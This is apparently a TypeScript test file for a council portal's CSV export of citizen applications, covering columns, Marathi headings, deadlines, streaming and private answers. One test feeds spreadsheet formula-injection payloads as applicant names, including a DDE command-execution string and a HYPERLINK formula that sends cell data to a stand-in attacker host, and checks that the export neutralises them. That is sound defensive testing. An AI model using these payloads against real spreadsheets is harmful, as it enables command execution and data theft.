import assert from 'node:assert/strict'
import { test } from 'node:test'
import { setImmediate } from 'node:timers/promises'
import type { Admin } from '../../council/actors/actors.server.ts'
import { answerMissing } from '../../council/cases/applications/answer-missing.server.ts'
import { decideApplication } from '../../council/cases/applications/decide.server.ts'
import { addHoliday, removeHoliday } from '../../council/cases/recounting/change-holidays.server.ts'
import { newAdmin, newCitizen, newStaff } from '../actors.ts'
import { apply, confirmed, factsOf, markDocuments, noon, offer } from '../council/cases-for-tests.ts'
import { caseRow } from '../rows.ts'
import { submitted } from '../submit-for-tests.ts'
import { origin, portalForFile } from './open-test-portal.ts'
import { publishOwnForm, treeForm, treeQuestions } from './own-forms-for-tests.ts'
import { answers, newService } from './services-for-tests.ts'

const exported = '/staff/application/export'
const portal = await portalForFile()
const { db } = portal.council
const clerk = await portal.signedIn('staff', 'S. Kulkarni')

function linesOf(text: string) {
  assert.ok(text.endsWith('\r\n'))
  return text.slice(0, -2).split('\r\n')
}

test('the file has what the list shows, in its order, with headings in the language of the page', async () => {
  const citizen = await newCitizen(db)
  const service = await offer(db, factsOf(3, ['Ration card']))
  const late = await apply(db, citizen, service, {
    on: '2026-06-01',
    atHand: [0],
    applicantName: 'आशा पाटील',
  })
  const waiting = await apply(db, citizen, service, { on: '2026-06-02' })
  const refused = await apply(db, citizen, service, { on: '2026-06-03', atHand: [0] })
  const decision = {
    status: 'Rejected',
    reason: 'Not of, "this" village',
    remark: 'Seen',
    revision: 1,
  } as const
  const officer = await newStaff(db, 'R. Deshmukh')
  await decideApplication(db, officer, refused, decision)
  const desk = { assignedTo: officer.id }
  await db.updateTable('applications').set(desk).where('applicationId', 'in', [late, refused]).execute()
  const file = await clerk.get(`${exported}?service=${service}&status=All`)
  assert.equal(file.status, 200)
  assert.equal(file.headers.get('Content-Type'), 'text/csv; charset=utf-8; header=present')
  assert.match(
    file.headers.get('Content-Disposition') ?? '',
    /^attachment; filename="applications-\d{4}-\d\d-\d\d\.csv"$/,
  )
  assert.equal(file.headers.get('Cache-Control'), 'no-store')
  const [head, ...rows] = linesOf(file.html)
  assert.equal(
    head,
    'Application no,Received,Service,Applicant,Phone No,Village,Pincode,Status,Turn,Complete since,First promised,Due date,Moved,Overdue,Days used,Decided,Late,Reason,Remark,Decided by,On whose desk,Way',
  )
  const [first = '', second = '', third = '', ...more] = rows
  assert.deepEqual(more, [])
  assert.match(
    first,
    new RegExp(
      `^${late},2026-06-01,Case \\d+,आशा पाटील,9876543210,Vadgaon,412803,Pending,Office’s turn,2026-06-01,2026-06-04,2026-06-04,0,Overdue,3,,\\d+,,,,R\\. Deshmukh,Online$`,
    ),
  )
  assert.match(
    third,
    new RegExp(
      `^${refused},2026-06-03,.*,Rejected,,2026-06-03,2026-06-06,2026-06-06,0,,3,\\d{4}-\\d\\d-\\d\\d,\\d+,"Not of, ""this"" village",Seen,R\\. Deshmukh,,Online$`,
    ),
  )
  assert.match(second, new RegExp(`^${waiting},2026-06-02,.*,Pending,Applicant’s turn,,,,,,0,,,,,,,Online$`))

  const only = await clerk.get(`${exported}?service=${service}&turn=citizen`)
  assert.deepEqual(linesOf(only.html).slice(1), [second])
  const found = await clerk.get(`${exported}?search=${encodeURIComponent('आशा')}`)
  assert.deepEqual(linesOf(found.html).slice(1), [first])
  const marathi = await clerk.send(`${exported}?service=${service}`, { headers: { 'Accept-Language': 'mr' } })
  assert.match(marathi.html, /^अर्ज क्रमांक,/)
  assert.match(marathi.html, /,अजून निर्णय नाही,कार्यालयाचे काम बाकी,/)
})

test('the file says what was first promised, how often it moved, the days used and how late the decision came', async () => {
  const [admin, citizen, officer] = [await newAdmin(db), await newCitizen(db), await newStaff(db)]
  const service = await offer(db, factsOf(3, ['Ration card']))
  // Monday 1 June with three days is due on Thursday 4 June, and with the holiday of the 3rd on Friday.
  const moved = await apply(db, citizen, service, { on: '2026-06-01', atHand: [0] })
  const holiday = { day: '2026-06-03', names: { en: 'Fair' } }
  await confirmed('2026-06-02', (seen) => addHoliday(db, admin, holiday, seen))
  const decided = { status: 'Approved', revision: 1 } as const
  await decideApplication(db, officer, moved, { ...decided, now: noon('2026-06-09') })
  const inTime = await apply(db, citizen, service, { on: '2026-06-08', atHand: [0] })
  await decideApplication(db, officer, inTime, { ...decided, now: noon('2026-06-09') })
  const refilled = await apply(db, citizen, service, { on: '2026-06-09' })
  const paper = { atHand: [0], revision: 1, now: noon('2026-06-10') }
  await answerMissing(db, citizen, refilled, paper)
  const lost = { seen: [], missing: [0], note: 'Torn', revision: 2, now: noon('2026-06-11') }
  await markDocuments(db, officer, refilled, lost)
  const free = await apply(db, citizen, await offer(db), { on: '2026-06-01' })
  const rowOf = async (number: string) => {
    const [, line = ''] = linesOf((await clerk.get(`${exported}?number=${number}`)).html)
    return line.split(',').slice(9, 17).join()
  }
  assert.equal(await rowOf(moved), '2026-06-01,2026-06-04,2026-06-05,1,,3,2026-06-09,4')
  assert.equal(await rowOf(inTime), '2026-06-08,2026-06-11,2026-06-11,0,,1,2026-06-09,')
  assert.equal(await rowOf(refilled), '2026-06-10,2026-06-13,,0,,0,,')
  assert.equal(await rowOf(free), ',,,,,,,')
  assert.equal(linesOf((await clerk.get(`${exported}?timing=late&service=${service}`)).html).length, 2)
  await removeHolidays(admin)
})

/** The other tests count by a calendar without holidays. */
async function removeHolidays(admin: Admin) {
  const because = 'No fair this year'
  await confirmed('2026-06-30', (seen) => removeHoliday(db, admin, '2026-06-03', { because, ...seen }))
}

test('what people write is a text to every spreadsheet, never a formula', async () => {
  const citizen = await newCitizen(db)
  const serviceId = await newService(portal)
  const hostile = [
    '=cmd|/c calc!A1',
    '+1',
    '-1',
    '@SUM(1)',
    '＝1+1',
    '=HYPERLINK("https://evil.example?"&A1,"x")',
  ]
  for (const [index, applicantName] of hostile.entries()) {
    const fields = { ...answers, applicantName, applicantVillage: 'a,b"c' }
    await submitted(db, citizen, serviceId, { fields, submissionKey: `hostile ${index}` })
  }
  const { html } = await clerk.get(`${exported}?service=${serviceId}`)
  assert.equal(linesOf(html).length, hostile.length + 1)
  for (const text of hostile) assert.ok(html.includes(`,"'${text.replaceAll('"', '""')}",`), text)
  assert.doesNotMatch(html, /(^|,)"?[=+@＝]/m)
  assert.match(html, /,"a,b""c",/)
})

/** Copies one application of a service until there are so many. */
async function manyOf(count: number) {
  const service = await offer(db)
  const one = await apply(db, await newCitizen(db), service)
  const row = await caseRow(db, one)
  for (let at = 1; at < count; at += 250) {
    const copies = Array.from({ length: Math.min(250, count - at) }, (_, index) => ({
      ...row,
      applicationId: `${service}-MANY-${at + index}`,
      submissionKey: `many ${at + index}`,
      inboxKey: `0:${String(at + index).padStart(6, '0')}`,
    }))
    await db.insertInto('applications').values(copies).execute()
  }
  return service
}

test('five thousand applications come whole, each once', async () => {
  const service = await manyOf(5000)
  const executor = db.getExecutor()
  const asked = executor.executeQuery.bind(executor)
  let queries = 0
  executor.executeQuery = (query) => {
    queries += 1
    return asked(query)
  }
  const { html } = await clerk.get(`${exported}?service=${service}`).finally(() => {
    executor.executeQuery = asked
  })
  // A few queries for each 500, not one for each application.
  assert.ok(queries < 100, `${queries} queries`)
  const lines = linesOf(html)
  assert.equal(lines.length, 5001)
  assert.equal(new Set(lines.map((line) => line.split(',')[0])).size, 5001)
})

/** Gives the process turns, reading the database in between: an export running by itself would read too. */
async function passTurns() {
  for (let turn = 0; turn < 10; turn += 1) {
    assert.equal((await clerk.get('/staff')).status, 200)
    await setImmediate()
  }
}

test('the file is read as fast as it is taken, and no further once the client has gone', async () => {
  const service = await manyOf(5000)
  const executor = db.getExecutor()
  const asked = executor.executeQuery.bind(executor)
  let batches = 0
  executor.executeQuery = (query) => {
    if (/"applicantPincode"/.test(query.sql)) batches += 1
    return asked(query)
  }
  try {
    const cookie = [...clerk.cookies].map(([name, value]) => `${name}=${value}`).join('; ')
    const request = new Request(`${origin}${exported}?service=${service}`, {
      headers: { Cookie: cookie, Host: new URL(origin).host },
    })
    const answer = await portal.fetch(request, '192.0.2.1')
    const reader = answer.body?.getReader()
    const first = await reader?.read()
    assert.ok((first?.value?.length ?? 0) > 10_000)
    // The mark by which a spreadsheet knows the file for UTF-8; a reader of texts takes it away.
    assert.deepEqual([...(first?.value ?? []).slice(0, 3)], [0xef, 0xbb, 0xbf])
    await passTurns()
    assert.equal(batches, 1)
    for (let pieces = 0; pieces < 8; pieces += 1) await reader?.read()
    const before = batches
    assert.ok(before > 1 && before < 6, `${before} batches`)
    await reader?.cancel()
    await passTurns()
    assert.equal(batches, before)
  } finally {
    executor.executeQuery = asked
  }
})

test('the file is never gathered as data', async () => {
  const admin = await portal.signedIn('admin')
  assert.match((await admin.get('/admin/application/export')).html, /^Application no,/)
  assert.doesNotMatch((await clerk.get(`${exported}.data`)).html, /Vadgaon/)
  assert.equal((await clerk.send(exported, { method: 'HEAD' })).html, '')
})

test('answers come under the service that is chosen, guarded; private ones only with the box, which the audit says', async () => {
  const serviceId = await newService(portal)
  const mine = { key: 'mine', kind: 'yesNo', label: { en: 'Mine' }, private: true, required: true }
  await publishOwnForm(portal, serviceId, treeForm([treeQuestions[0], mine]))
  const citizen = await portal.signedIn('user')
  const typed = { ...answers, 'q-tree': '=1+1', 'q-mine': 'yes' }
  const sent = await citizen.submit(`/user/apply/${serviceId}/form`, typed, 'id="main-form"')
  assert.match(sent.location, /^\/user\?sent=TEST-\d+$/, sent.text)
  const list = await clerk.get(`/staff/application/update?service=${serviceId}`)
  assert.match(list.text, /With private answers/)
  const [head = '', row = ''] = linesOf((await clerk.get(`${exported}?service=${serviceId}`)).html)
  assert.match(head, /,Remark,Decided by,On whose desk,Way,Which tree$/)
  assert.match(row, /,"'=1\+1"$/)
  const whole = await clerk.get(`${exported}?service=${serviceId}&private=yes`)
  assert.match(linesOf(whole.html).join('\n'), /,Which tree,Mine\n.*,Yes$/)
  const lines = await db
    .selectFrom('audit')
    .select('after')
    .where('act', '=', 'register.exported')
    .where('after', 'like', `%${serviceId}%`)
    .execute()
  const asked = lines.map(({ after }) => JSON.parse(after ?? '').filter.privateAnswers)
  assert.deepEqual(asked.sort(), [true, undefined])
  assert.doesNotMatch((await clerk.get(exported)).html, /Which tree/)
  const other = await clerk.get(`/staff/application/update?service=${await newService(portal)}`)
  assert.doesNotMatch(other.text, /With private answers/)
})
